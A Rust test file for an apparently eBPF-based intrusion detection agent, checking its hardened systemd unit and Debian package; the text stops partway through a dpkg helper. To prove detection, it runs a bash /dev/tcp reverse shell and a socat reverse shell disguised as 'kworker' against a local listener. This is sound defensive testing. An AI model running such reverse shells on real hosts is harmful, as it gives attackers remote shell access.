//! The systemd unit (deploy/systemd/shrike.service) and the Debian package (`cargo xtask deb`).
//!
//! systemd is not PID 1 on the test machine, so the unit cannot be started here. What the unit
//! grants is proven instead by running the real agent the way the unit would: as root with
//! exactly the unit's `CapabilityBoundingSet=` (parsed from the unit file) and
//! `NoNewPrivileges=`, inside a mount namespace that reproduces the unit's filesystem sandbox
//! (`ProtectSystem=strict` with the state and logs directories writable, `ProtectHome=yes`,
//! `PrivateTmp=yes`, `PrivateDevices=yes`, `ProtectProc=invisible`, `ProtectKernelTunables=yes`,
//! `ProtectControlGroups=yes`, and no tracefs: the agent needs none), with the
//! packaged configuration and rules (host scope), under `strace`: the agent must catch host
//! attacks, make only system calls the unit's `SystemCallFilter=` allows, open only the socket
//! families of `RestrictAddressFamilies=`, never map writable+executable memory
//! (`MemoryDenyWriteExecute=`) and stop on `KillSignal=` within `TimeoutStopSec=`. Then every
//! capability is taken away in turn: without it the agent must fail to start or miss an attack.
//!
//! The package test installs the .deb into this machine (root only; a guard purges it again even
//! when the test fails) and checks files, conffiles, dpkg status, the installed unit with
//! `systemd-analyze verify`, and that `dpkg --purge` leaves nothing behind.

use shrike_tests::{agent, common};
use std::{
    collections::{BTreeMap, BTreeSet},
    io::{BufRead, BufReader},
    os::unix::fs::{MetadataExt, PermissionsExt},
    path::{Path, PathBuf},
    process::{Child, Command, Output, Stdio},
    sync::{Arc, Mutex},
    thread::JoinHandle,
    time::{Duration, Instant},
};

use agent::{belongs_to_runner, run_attack};
use common::{privileged, TempDir};
use serde_json::Value;

use shrike_tests::shrike;
const VERSION: &str = env!("CARGO_PKG_VERSION");

const RCE: &str = "Execution: Possible Remote Command Execution Detected";
const REVERSE_SHELL: &str = "Reverse Shell";
const SOCAT: &str = "Execution: Socat Reverse Shell Detected";

/// The exposure `systemd-analyze security --offline=yes` gives the unit (systemd 252): it may
/// only go down.
const EXPOSURE_BUDGET: f64 = 2.2;

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().to_path_buf()
}

fn unit_path() -> PathBuf {
    workspace().join("deploy/systemd/shrike.service")
}

fn in_ci() -> bool {
    std::env::var("CI").map(|v| v == "true" || v == "1").unwrap_or(false)
}

/// True when `tool` is on PATH. Otherwise the test is skipped, or fails under CI=true.
fn have(test: &str, tool: &str) -> bool {
    let found = std::env::var("PATH").unwrap_or_default().split(':').any(|d| Path::new(d).join(tool).is_file());
    if !found {
        if in_ci() {
            panic!("{test}: `{tool}` is not installed and CI=true: a skip is a failure here");
        }
        println!("skipping test - {test}: `{tool}` is not installed");
    }
    found
}

fn run(cmd: &mut Command) -> Output {
    cmd.output().unwrap_or_else(|e| panic!("running {cmd:?}: {e}"))
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

// ---------------------------------------------------------------------------------------------
// The unit file

/// `Key=Value` settings of a unit file (every occurrence, in order), comments skipped.
fn unit_settings(unit: &str) -> BTreeMap<String, Vec<String>> {
    let mut out: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for line in unit.lines().map(str::trim) {
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') || line.starts_with('[') {
            continue;
        }
        let (k, v) = line.split_once('=').unwrap_or_else(|| panic!("not a setting: {line}"));
        out.entry(k.trim().to_string()).or_default().push(v.trim().to_string());
    }
    out
}

fn setting(settings: &BTreeMap<String, Vec<String>>, key: &str) -> Vec<String> {
    settings.get(key).cloned().unwrap_or_default()
}

/// The unit's capabilities (`CAP_BPF`, ...): its `CapabilityBoundingSet=` — the one list the
/// agent's capabilities come from (it runs as root, so its effective set is the bounding set).
fn unit_capabilities() -> Vec<String> {
    let settings = unit_settings(&std::fs::read_to_string(unit_path()).unwrap());
    let caps: Vec<String> =
        setting(&settings, "CapabilityBoundingSet").iter().flat_map(|v| v.split_whitespace()).map(str::to_string).collect();
    assert!(!caps.is_empty() && caps.iter().all(|c| c.starts_with("CAP_") && !c.starts_with('~')), "an allow list: {caps:?}");
    for ambient in setting(&settings, "AmbientCapabilities") {
        let ambient: BTreeSet<&str> = ambient.split_whitespace().collect();
        assert!(ambient.iter().all(|c| caps.iter().any(|k| k == c)), "AmbientCapabilities= beyond the bounding set: {ambient:?}");
    }
    caps
}

/// Bit number of a capability (linux/capability.h).
fn cap_bit(name: &str) -> u32 {
    const CAPS: [&str; 41] = [
        "CHOWN",
        "DAC_OVERRIDE",
        "DAC_READ_SEARCH",
        "FOWNER",
        "FSETID",
        "KILL",
        "SETGID",
        "SETUID",
        "SETPCAP",
        "LINUX_IMMUTABLE",
        "NET_BIND_SERVICE",
        "NET_BROADCAST",
        "NET_ADMIN",
        "NET_RAW",
        "IPC_LOCK",
        "IPC_OWNER",
        "SYS_MODULE",
        "SYS_RAWIO",
        "SYS_CHROOT",
        "SYS_PTRACE",
        "SYS_PACCT",
        "SYS_ADMIN",
        "SYS_BOOT",
        "SYS_NICE",
        "SYS_RESOURCE",
        "SYS_TIME",
        "SYS_TTY_CONFIG",
        "MKNOD",
        "LEASE",
        "AUDIT_WRITE",
        "AUDIT_CONTROL",
        "SETFCAP",
        "MAC_OVERRIDE",
        "MAC_ADMIN",
        "SYSLOG",
        "WAKE_ALARM",
        "BLOCK_SUSPEND",
        "AUDIT_READ",
        "PERFMON",
        "BPF",
        "CHECKPOINT_RESTORE",
    ];
    let short = name.strip_prefix("CAP_").unwrap_or(name);
    CAPS.iter().position(|c| *c == short).unwrap_or_else(|| panic!("unknown capability {name}")) as u32
}

/// `setpriv` capability list: `-all,+bpf,+perfmon`.
fn setpriv_caps(caps: &[String]) -> String {
    let mut s = String::from("-all");
    for c in caps {
        s.push_str(",+");
        s.push_str(&c.trim_start_matches("CAP_").to_ascii_lowercase());
    }
    s
}

/// The unit with `ExecStart=` pointing at the binary under test (`systemd-analyze verify`
/// refuses a unit whose binary does not exist), written as `<dir>/shrike.service`.
fn unit_copy(dir: &Path) -> PathBuf {
    let unit = std::fs::read_to_string(unit_path()).unwrap();
    let exec = "ExecStart=/usr/bin/shrike run --config /etc/shrike/shrike.toml";
    assert_eq!(unit.lines().filter(|l| l.starts_with("ExecStart=")).collect::<Vec<_>>(), [exec], "the packaged binary and config");
    let copy = dir.join("shrike.service");
    std::fs::write(&copy, unit.replace(exec, &format!("ExecStart={} run --config /etc/shrike/shrike.toml", shrike()))).unwrap();
    copy
}

#[test]
fn unit_verifies_and_stays_within_its_exposure_budget() {
    let test = "unit_verifies_and_stays_within_its_exposure_budget";
    if !have(test, "systemd-analyze") {
        return;
    }
    let dir = TempDir::new_in(&std::env::temp_dir(), "unit-verify");
    let copy = unit_copy(&dir.0);

    // `verify` only warns about a misspelt key (rc 0), so any output at all fails.
    let out = run(Command::new("systemd-analyze").arg("verify").arg(&copy));
    assert!(out.status.success() && out.stdout.is_empty() && out.stderr.is_empty(), "systemd-analyze verify: {out:?}");

    let security = |extra: &[&str]| run(Command::new("systemd-analyze").args(["security", "--offline=yes"]).args(extra).arg(&copy));
    let out = security(&[]);
    let report = text(&out.stdout);
    let level = report
        .lines()
        .find_map(|l| l.split("Overall exposure level for shrike.service: ").nth(1))
        .and_then(|l| l.split_whitespace().next())
        .and_then(|v| v.parse::<f64>().ok())
        .unwrap_or_else(|| panic!("no overall exposure level in:\n{report}{}", text(&out.stderr)));
    println!("systemd-analyze security --offline=yes: exposure {level}");
    assert!(level <= EXPOSURE_BUDGET, "exposure {level} is over the budget {EXPOSURE_BUDGET}:\n{report}");
    let threshold = format!("--threshold={}", (EXPOSURE_BUDGET * 10.0).round() as u32);
    assert!(security(&[&threshold]).status.success(), "systemd-analyze security {threshold} fails");

    // Settings that must hold whatever else improves the score.
    let json: Value = serde_json::from_slice(&security(&["--json=short"]).stdout).expect("security --json");
    let exposure: BTreeMap<String, Value> =
        json.as_array().unwrap().iter().map(|e| (e["name"].as_str().unwrap().to_string(), e["exposure"].clone())).collect();
    for must in [
        "CapabilityBoundingSet=~CAP_SYS_ADMIN",
        "CapabilityBoundingSet=~CAP_SYS_MODULE",
        "CapabilityBoundingSet=~CAP_NET_ADMIN",
        "NoNewPrivileges=",
        "ProtectSystem=",
        "ProtectHome=",
        "PrivateTmp=",
        "PrivateDevices=",
        "ProtectKernelTunables=",
        "ProtectKernelModules=",
        "ProtectControlGroups=",
        "ProtectProc=",
        "MemoryDenyWriteExecute=",
        "RestrictNamespaces=~user",
        "SystemCallArchitectures=",
        "SystemCallFilter=~@mount",
        "SystemCallFilter=~@module",
        "RestrictAddressFamilies=~AF_PACKET",
    ] {
        assert_eq!(exposure.get(must), Some(&Value::Null), "{must} is not satisfied:\n{report}");
    }

    // The unit's own promises, read from the unit file.
    let settings = unit_settings(&std::fs::read_to_string(unit_path()).unwrap());
    assert_eq!(setting(&settings, "Type"), ["simple"], "the agent does not speak sd_notify");
    assert_eq!(setting(&settings, "KillSignal"), ["SIGTERM"]);
    assert_eq!(setting(&settings, "Restart"), ["on-failure"]);
    assert_eq!(setting(&settings, "StateDirectory"), ["shrike"], "/var/lib/shrike: the spool");
    assert_eq!(setting(&settings, "LogsDirectory"), ["shrike"]);
    assert_eq!(setting(&settings, "ConfigurationDirectory"), ["shrike"]);
    for key in ["Wants", "After", "Requires"] {
        assert!(!setting(&settings, key).iter().any(|w| w.contains("tracing")), "the agent needs no tracefs ({key}=)");
    }
    assert!(!unit_capabilities().iter().any(|c| c == "CAP_SYS_ADMIN"), "no CAP_SYS_ADMIN");
}

// ---------------------------------------------------------------------------------------------
// The agent under the unit's capabilities and (emulated) sandbox

/// Run as `sh -c SANDBOX sandbox TRACEFS RW_PATHS COMMAND...` inside `unshare --mount
/// --propagation private`: the unit's filesystem sandbox, as systemd would set it up for the
/// service, then exec COMMAND. TRACEFS is `mounted` (as systemd's sys-kernel-tracing.mount does
/// on most hosts) or `absent`; RW_PATHS are the `StateDirectory=`/`LogsDirectory=` stand-ins,
/// colon-separated. Not reproduced here: the seccomp filter (checked with strace instead),
/// `LimitMEMLOCK=infinity` (this machine's root lacks CAP_SYS_RESOURCE to raise it),
/// `ProtectKernelTunables=`'s hiding of /proc/kallsyms and /proc/kcore, the UTS namespace of
/// `ProtectHostname=`.
const SANDBOX: &str = r#"set -eu
tracefs="$1"; rw="$2"; shift 2
if [ "$tracefs" = mounted ]; then
  mountpoint -q /sys/kernel/tracing || mount -n -t tracefs -o nosuid,nodev,noexec tracefs /sys/kernel/tracing
else
  while mountpoint -q /sys/kernel/tracing; do umount -n /sys/kernel/tracing; done
  if mountpoint -q /sys/kernel/debug; then umount -n -l /sys/kernel/debug; fi
fi
# ReadWritePaths= (StateDirectory=, LogsDirectory=): mounts of their own, which stay writable.
IFS=:; for p in $rw; do mount -n --bind "$p" "$p"; done; unset IFS
# ProtectSystem=strict: the root filesystem read-only (/dev, /proc, /sys follow below).
mount -n -o remount,bind,ro /
# ProtectHome=yes: /home, /root and /run/user empty.
for d in /home /root /run/user; do if [ -d "$d" ]; then mount -n -t tmpfs -o ro,mode=0755 tmpfs "$d"; fi; done
# PrivateTmp=yes: a /tmp and /var/tmp of its own.
mount -n -t tmpfs -o mode=1777,nosuid,nodev tmpfs /tmp
mount -n -t tmpfs -o mode=1777,nosuid,nodev tmpfs /var/tmp
# PrivateDevices=yes: a /dev with the pseudo devices only.
mkdir /tmp/.dev
mount -n -t tmpfs -o mode=0755,nosuid,noexec tmpfs /tmp/.dev
for n in null zero full random urandom tty; do touch "/tmp/.dev/$n"; mount -n --bind "/dev/$n" "/tmp/.dev/$n"; done
mkdir /tmp/.dev/shm /tmp/.dev/pts
ln -s /proc/self/fd /tmp/.dev/fd
mount -n --move /tmp/.dev /dev
rmdir /tmp/.dev
# ProtectProc=invisible: a procfs that hides the processes the agent may not ptrace.
mount -n -t proc -o nosuid,nodev,noexec,hidepid=invisible proc /proc
# ProtectKernelTunables=yes: /proc/sys and every mount under /sys read-only (that includes
# /sys/fs/cgroup: ProtectControlGroups=yes, and tracefs).
mount -n --bind /proc/sys /proc/sys
mount -n -o remount,bind,ro /proc/sys
for m in $(awk '$5 ~ "^/sys" {print $5}' /proc/self/mountinfo); do mount -n -o remount,bind,ro "$m"; done
# UMask=0077.
umask 0077
exec "$@"
"#;

/// Directories of one emulated service: `etc` (configuration, read-only to the agent),
/// `state` (StateDirectory), `logs` (LogsDirectory). Under /var/lib of the host: PrivateTmp
/// hides the host's /tmp from the agent.
struct Service {
    dir: TempDir,
}

impl Service {
    fn new(name: &str) -> Service {
        let dir = TempDir::new_in(Path::new("/var/lib"), name);
        for d in ["bin", "etc", "state", "logs"] {
            std::fs::create_dir(dir.0.join(d)).unwrap();
        }
        std::fs::set_permissions(&dir.0, std::fs::Permissions::from_mode(0o700)).unwrap();
        // The binary under test may live under /root or /home, which ProtectHome= hides; the
        // packaged one is /usr/bin/shrike.
        std::fs::copy(shrike(), dir.0.join("bin/shrike")).unwrap();
        Service { dir }
    }

    fn exe(&self) -> PathBuf {
        self.path("bin/shrike")
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.0.join(rel)
    }

    /// The packaged configuration and rules, with only the paths of this service and an
    /// ephemeral metrics port put in, plus `extra`. Returns the config path.
    fn write_config(&self, extra: &str) -> PathBuf {
        let deploy = workspace().join("deploy/systemd");
        let rules = self.path("etc/rules.toml");
        std::fs::copy(deploy.join("rules.toml"), &rules).unwrap();
        let mut config = std::fs::read_to_string(deploy.join("shrike.toml")).unwrap();
        for (from, to) in [
            ("rules = \"/etc/shrike/rules.toml\"", format!("rules = \"{}\"", rules.display())),
            ("listen = \"127.0.0.1:9477\"", "listen = \"127.0.0.1:0\"".to_string()),
            ("spool_dir = \"/var/lib/shrike/spool\"", format!("spool_dir = \"{}\"", self.path("state/spool").display())),
            ("path = \"/var/log/shrike/findings.jsonl\"", format!("path = \"{}\"", self.path("logs/findings.jsonl").display())),
        ] {
            assert!(config.contains(from), "the packaged shrike.toml has `{from}`");
            config = config.replace(from, &to);
        }
        config.push_str(extra);
        let path = self.path("etc/shrike.toml");
        std::fs::write(&path, config).unwrap();
        path
    }

    /// `shrike run` with exactly `caps`, no new privileges, in the unit's sandbox; `strace`: the
    /// file to trace its system calls into.
    fn command(&self, config: &Path, caps: &[String], tracefs: &str, strace: Option<&Path>) -> Command {
        let mut c = Command::new("unshare");
        c.args(["--mount", "--propagation", "private", "--", "sh", "-c", SANDBOX, "sandbox", tracefs]);
        c.arg(format!("{}:{}", self.path("state").display(), self.path("logs").display()));
        let caps = setpriv_caps(caps);
        c.args(["setpriv", "--bounding-set", &caps, "--inh-caps", "-all", "--ambient-caps", "-all", "--no-new-privs", "--"]);
        if let Some(out) = strace {
            c.args(["strace", "-f", "-qq", "-o"]).arg(out);
        }
        c.arg(self.exe()).args(["run", "--config"]).arg(config);
        c.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
        c.env("SHRIKE_LOG", std::env::var("SHRIKE_TEST_LOG").unwrap_or_else(|_| "info".into()));
        c
    }
}

/// A running emulated service: its findings (stdout) and log (stderr) are collected.
struct Running {
    child: Child,
    exe: PathBuf,
    findings: Arc<Mutex<Vec<Value>>>,
    log: Arc<Mutex<String>>,
    threads: Vec<JoinHandle<()>>,
}

/// Start `cmd`; returns once it logged `shrike ready`, or `Err(log)` once it exited without.
fn start(mut cmd: Command, exe: PathBuf) -> Result<Running, String> {
    let mut child = cmd.spawn().expect("spawn the sandboxed agent");
    let findings = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::new(Mutex::new(String::new()));
    let (out, err) = (child.stdout.take().unwrap(), child.stderr.take().unwrap());
    let f = findings.clone();
    let t1 = std::thread::spawn(move || {
        for line in BufReader::new(out).lines().map_while(Result::ok) {
            match serde_json::from_str(&line) {
                Ok(v) => f.lock().unwrap().push(v),
                Err(e) => panic!("stdout line is not JSON ({e}): {line}"),
            }
        }
    });
    let l = log.clone();
    let t2 = std::thread::spawn(move || {
        for line in BufReader::new(err).lines().map_while(Result::ok) {
            let mut l = l.lock().unwrap();
            l.push_str(&line);
            l.push('\n');
        }
    });
    let mut running = Running { child, exe, findings, log, threads: vec![t1, t2] };
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if running.log().contains("shrike ready") {
            return Ok(running);
        }
        if let Some(status) = running.child.try_wait().unwrap() {
            for t in running.threads.drain(..) {
                t.join().unwrap();
            }
            return Err(format!("exited with {status}:\n{}", running.log()));
        }
        if Instant::now() > deadline {
            running.kill();
            panic!("not ready in 60 s:\n{}", running.log());
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

impl Running {
    fn log(&self) -> String {
        self.log.lock().unwrap().clone()
    }

    fn findings(&self) -> Vec<Value> {
        self.findings.lock().unwrap().clone()
    }

    /// Categories of the findings about the attack run by `runner`.
    fn caught(&self, runner: u32) -> BTreeSet<String> {
        self.findings()
            .iter()
            .filter(|f| belongs_to_runner(f, runner))
            .map(|f| f["finding"]["category"].as_str().unwrap().to_string())
            .collect()
    }

    fn wait_caught(&self, what: &str, runner: u32, want: &[&str]) {
        let deadline = Instant::now() + Duration::from_secs(30);
        while !want.iter().all(|w| self.caught(runner).contains(*w)) {
            assert!(Instant::now() < deadline, "{what}: wanted {want:?}, got {:?}; log:\n{}", self.caught(runner), self.log());
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    /// The `shrike` process (the child itself, or strace's child), if running.
    fn find_agent(&self) -> Option<u32> {
        let root = self.child.id();
        std::fs::read_dir("/proc").ok()?.filter_map(Result::ok).find_map(|e| {
            let pid = e.file_name().to_string_lossy().parse::<u32>().ok()?;
            (std::fs::read_link(format!("/proc/{pid}/exe")).is_ok_and(|x| x == self.exe) && descends_from(pid, root)).then_some(pid)
        })
    }

    fn agent_pid(&self) -> u32 {
        let deadline = Instant::now() + Duration::from_secs(5);
        loop {
            if let Some(pid) = self.find_agent() {
                return pid;
            }
            assert!(Instant::now() < deadline, "no shrike process under pid {}", self.child.id());
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// Stop as systemd does (`KillSignal=` to the agent), wait at most `timeout`; returns how long
    /// it took and its log.
    fn stop(mut self, signal: i32, timeout: Duration) -> (Duration, String) {
        let pid = self.agent_pid();
        let t0 = Instant::now();
        // SAFETY: signalling the agent this test started, by its pid.
        unsafe { libc::kill(pid as i32, signal) };
        while self.child.try_wait().unwrap().is_none() {
            if t0.elapsed() > timeout {
                self.kill();
                panic!("still running {timeout:?} after the stop signal:\n{}", self.log());
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        let took = t0.elapsed();
        let status = self.child.wait().unwrap();
        for t in self.threads.drain(..) {
            t.join().unwrap();
        }
        assert!(status.success(), "the agent did not exit cleanly ({status}):\n{}", self.log());
        (took, self.log())
    }

    fn kill(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            // SAFETY: signalling processes this test started, by their pids.
            unsafe {
                if let Some(pid) = self.find_agent() {
                    libc::kill(pid as i32, libc::SIGKILL);
                }
                libc::kill(self.child.id() as i32, libc::SIGKILL);
            }
        }
        let _ = self.child.wait();
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        self.kill();
    }
}

fn descends_from(mut pid: u32, ancestor: u32) -> bool {
    for _ in 0..16 {
        if pid == ancestor {
            return true;
        }
        let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else { return false };
        let Some(ppid) = stat.rsplit_once(')').and_then(|(_, rest)| rest.split_whitespace().nth(1)).and_then(|p| p.parse().ok()) else {
            return false;
        };
        pid = ppid;
    }
    false
}

/// `Cap*:` and `NoNewPrivs:` lines of /proc/PID/status.
fn status_field(pid: u32, field: &str) -> String {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status.lines().find_map(|l| l.strip_prefix(field)).map(|v| v.trim().to_string()).unwrap_or_default()
}

/// A copy of socat under another name, in a directory only `nobody` may enter: the agent must
/// read the file (through the process's root) to know it is socat.
struct HiddenSocat {
    dir: TempDir,
}

impl HiddenSocat {
    fn new() -> HiddenSocat {
        let dir = TempDir::new_in(&std::env::temp_dir(), "hidden");
        let socat = ["/usr/bin/socat", "/bin/socat"].into_iter().find(|p| Path::new(p).exists()).expect("socat is installed");
        let copy = dir.0.join("kworker");
        std::fs::copy(socat, &copy).unwrap();
        std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o700)).unwrap();
        std::fs::set_permissions(&dir.0, std::fs::Permissions::from_mode(0o700)).unwrap();
        for p in [&copy, &dir.0] {
            std::os::unix::fs::chown(p, Some(65534), Some(65534)).unwrap();
        }
        HiddenSocat { dir }
    }

    /// Run it as `nobody`: a socat reverse shell to a listener on 127.0.0.1. Returns the runner.
    fn attack(&self) -> u32 {
        let cmd = format!(
            "exec setpriv --reuid 65534 --regid 65534 --clear-groups {}/kworker TCP:127.0.0.1:{{P}} EXEC:/bin/sh",
            self.dir.0.display()
        );
        run_attack("renamed socat as nobody", &cmd, "id; exit\n")
    }
}

const BASH_REVERSE_SHELL: &str = "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{P} 0>&1'";

/// `SystemCallFilter=` of the unit as the set of allowed system calls, expanded with this
/// systemd's own group definitions (`systemd-analyze syscall-filter`).
fn allowed_syscalls(settings: &BTreeMap<String, Vec<String>>) -> BTreeSet<String> {
    let listing = text(&run(Command::new("systemd-analyze").arg("syscall-filter")).stdout);
    let mut groups: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let mut current = None;
    for line in listing.lines() {
        if line.starts_with('@') {
            current = Some(line.split_whitespace().next().unwrap().to_string());
            groups.insert(current.clone().unwrap(), Vec::new());
        } else if let (Some(g), Some(name)) = (&current, line.split_whitespace().next()) {
            if !name.starts_with('#') {
                groups.get_mut(g).unwrap().push(name.to_string());
            }
        }
    }
    fn expand(name: &str, groups: &BTreeMap<String, Vec<String>>, out: &mut BTreeSet<String>) {
        if name.starts_with('@') {
            for m in groups.get(name).unwrap_or_else(|| panic!("unknown group {name}")) {
                expand(m, groups, out);
            }
        } else {
            out.insert(name.to_string());
        }
    }
    let filters = setting(settings, "SystemCallFilter");
    assert!(filters.first().is_some_and(|f| !f.starts_with('~')), "the first SystemCallFilter= is an allow list: {filters:?}");
    let mut allowed = BTreeSet::new();
    for f in filters {
        let (deny, list) = match f.strip_prefix('~') {
            Some(rest) => (true, rest),
            None => (false, f.as_str()),
        };
        for name in list.split_whitespace() {
            let mut set = BTreeSet::new();
            expand(name, &groups, &mut set);
            if deny {
                allowed.retain(|s| !set.contains(s));
            } else {
                allowed.extend(set);
            }
        }
    }
    allowed
}

/// One system call of an strace line (`PID name(args...`): its name and arguments; None for
/// signals, exits and resumptions.
fn strace_call(line: &str) -> Option<(&str, &str)> {
    let call = line.split_once(' ')?.1.trim_start();
    let (name, args) = call.split_once('(')?;
    name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_').then_some((name, args))
}

/// Check an strace of the agent (from its exec on) against the unit: system calls, socket
/// families, W+X memory, namespaces.
fn check_trace(trace: &str, exe: &Path, settings: &BTreeMap<String, Vec<String>>) {
    let exec = format!("execve(\"{}\"", exe.display());
    let start = trace.lines().position(|l| l.contains(&exec)).expect("the trace has the agent's exec");
    let calls: Vec<(&str, &str)> = trace.lines().skip(start).filter_map(strace_call).collect();
    let used: BTreeSet<String> = calls.iter().map(|(n, _)| n.to_string()).collect();
    assert!(used.contains("bpf"), "the trace covers the sensor: {used:?}");
    // BTF tracepoints attach through bpf() (BPF_RAW_TRACEPOINT_OPEN): no perf events, so the
    // unit does not allow perf_event_open.
    assert!(!used.contains("perf_event_open"), "the sensor opens no perf event: {used:?}");
    let allowed = allowed_syscalls(settings);
    let denied: Vec<&String> = used.iter().filter(|s| !allowed.contains(*s)).collect();
    assert!(denied.is_empty(), "system calls SystemCallFilter= does not allow: {denied:?}");

    let families: Vec<String> =
        setting(settings, "RestrictAddressFamilies").iter().flat_map(|v| v.split_whitespace()).map(str::to_string).collect();
    for (name, args) in &calls {
        let wx = match *name {
            "socket" | "socketpair" => {
                let family = args.split(',').next().unwrap_or_default();
                assert!(families.iter().any(|f| f == family), "RestrictAddressFamilies= does not allow {family}: {name}({args}");
                false
            }
            "mmap" => args.contains("PROT_WRITE") && args.contains("PROT_EXEC"),
            "mprotect" | "pkey_mprotect" => args.contains("PROT_EXEC"),
            "clone" | "clone3" => {
                assert!(!args.contains("CLONE_NEW"), "RestrictNamespaces= refuses: {name}({args}");
                false
            }
            "unshare" | "setns" => panic!("RestrictNamespaces= refuses: {name}({args}"),
            _ => false,
        };
        assert!(!wx, "MemoryDenyWriteExecute= refuses: {name}({args}");
    }
}

#[test]
fn agent_with_the_units_capabilities_and_sandbox_catches_host_attacks() {
    let test = "agent_with_the_units_capabilities_and_sandbox_catches_host_attacks";
    if !privileged(test) || !have(test, "systemd-analyze") || !have(test, "strace") || !have(test, "socat") {
        return;
    }
    let settings = unit_settings(&std::fs::read_to_string(unit_path()).unwrap());
    let caps = unit_capabilities();
    let service = Service::new("unit-run");
    // A webhook nobody listens on: its findings go to the spool in StateDirectory=, and the stop
    // has something to flush.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let config = service.write_config(&format!(
        "\n[[sinks.webhook]]\nname = \"siem\"\nurl = \"http://127.0.0.1:{closed}/ingest\"\nbackoff_initial_ms = 100\nbackoff_max_ms = 500\n"
    ));
    let trace = service.path("state/strace.out");
    // No tracefs: the agent attaches BTF tracepoints by id and needs none.
    let agent = start(service.command(&config, &caps, "absent", Some(&trace)), service.exe())
        .unwrap_or_else(|log| panic!("the agent did not start: {log}"));

    // Exactly the unit's capabilities, nothing else, and no way to gain more.
    let pid = agent.agent_pid();
    let want = caps.iter().fold(0u64, |m, c| m | 1 << cap_bit(c));
    for field in ["CapEff:", "CapPrm:", "CapBnd:"] {
        assert_eq!(u64::from_str_radix(&status_field(pid, field), 16).unwrap(), want, "{field} of the agent ({caps:?})");
    }
    assert_eq!(status_field(pid, "CapAmb:"), "0000000000000000");
    assert_eq!(status_field(pid, "NoNewPrivs:"), "1");

    // A renamed socat run by another user from a directory only it may enter, under the host's
    // /tmp (hidden from the agent by PrivateTmp=): caught because the agent reads the file
    // through the process's own root.
    let hidden = HiddenSocat::new();
    let socat_runner = hidden.attack();
    agent.wait_caught("the renamed socat run by nobody", socat_runner, &[SOCAT]);
    let bash_runner = run_attack("bash", BASH_REVERSE_SHELL, "id; exit\n");
    agent.wait_caught("the bash reverse shell", bash_runner, &[REVERSE_SHELL, RCE]);

    // The files the unit makes writable are written: the file sink in LogsDirectory=, the
    // webhook spool in StateDirectory=.
    let deadline = Instant::now() + Duration::from_secs(10);
    while common::spooled_files(&service.path("state/spool/siem")).is_empty() {
        assert!(Instant::now() < deadline, "nothing spooled:\n{}", agent.log());
        std::thread::sleep(Duration::from_millis(100));
    }
    let stop_timeout = setting(&settings, "TimeoutStopSec")
        .first()
        .and_then(|v| v.strip_suffix('s'))
        .and_then(|v| v.parse().ok())
        .expect("TimeoutStopSec=Ns");
    let n = agent.findings().len();
    let (took, log) = agent.stop(libc::SIGTERM, Duration::from_secs(stop_timeout));
    println!("stopped {took:?} after SIGTERM (TimeoutStopSec={stop_timeout}s)");
    assert!(log.contains("shrike stopped"), "{log}");
    let file = std::fs::read_to_string(service.path("logs/findings.jsonl")).unwrap();
    assert!(file.lines().count() >= n, "every finding is in the file sink: {} < {n}", file.lines().count());
    assert!(!common::spooled_files(&service.path("state/spool/siem")).is_empty(), "undelivered findings stay spooled");
    // UMask=0077: findings on disk are for root's eyes only.
    let mut written = vec![service.path("logs/findings.jsonl")];
    for f in common::spooled_files(&service.path("state/spool/siem")) {
        written.push(service.path("state/spool/siem").join(f));
    }
    for f in written {
        let mode = std::fs::metadata(&f).unwrap().mode() & 0o777;
        assert_eq!(mode & 0o077, 0, "{} is mode {mode:o}", f.display());
    }
    for l in log.lines().filter(|l| l.contains(" WARN ") || l.contains(" ERROR ")) {
        let expected =
            l.contains("RLIMIT_MEMLOCK") || l.contains("delivery failed") || l.contains("container runtime") || l.contains("CRI");
        assert!(expected, "an unexpected warning in the sandbox: {l}");
    }
    check_trace(&std::fs::read_to_string(&trace).unwrap(), &service.exe(), &settings);
}

#[test]
fn every_capability_of_the_unit_is_needed() {
    let test = "every_capability_of_the_unit_is_needed";
    if !privileged(test) || !have(test, "socat") {
        return;
    }
    let caps = unit_capabilities();
    let needed: BTreeSet<String> = shrike::privileges::NEEDED.iter().map(|n| n.cap.to_string()).collect();
    assert_eq!(caps.iter().cloned().collect::<BTreeSet<_>>(), needed, "the unit grants exactly what shrike run checks for");
    let service = Service::new("unit-caps");
    let config = service.write_config("");
    for without in &caps {
        let fewer: Vec<String> = caps.iter().filter(|c| *c != without).cloned().collect();
        // The agent checks its capabilities before loading anything: it stops at once and
        // names the missing one and what it is for. (Before that check existed, this test
        // showed each one needed by running without it: no BPF or PERFMON, no sensor; no
        // SYS_PTRACE or DAC_READ_SEARCH, a renamed socat in another user's directory missed.)
        let log = start(service.command(&config, &fewer, "mounted", None), service.exe())
            .err()
            .unwrap_or_else(|| panic!("without {without} the agent must not start"));
        assert!(log.contains(&format!("missing capabilities: {without} (to ")), "without {without} the agent fails, but not clearly:\n{log}");
        println!("without {without}: does not start: {}", log.lines().find(|l| l.contains("ERROR")).unwrap_or_default());
    }
}

// ---------------------------------------------------------------------------------------------
// The Debian package

/// `dpkg ARGS`, retried while another dpkg or apt holds the lock.
fn dpkg(args: &[&str]) -> Output {
    let deadline = Instant::now() + Duration::from_secs(120);
    loop {
        let out = run(Command::new("dpkg").args(args).stdin(Stdio::null()).env("DEBIAN_FRONTEND", "noninteractive"));
        if out.status.success() || !text(&out.stderr).contains("lock") || Instant::now() > deadline {
            return out;
        }
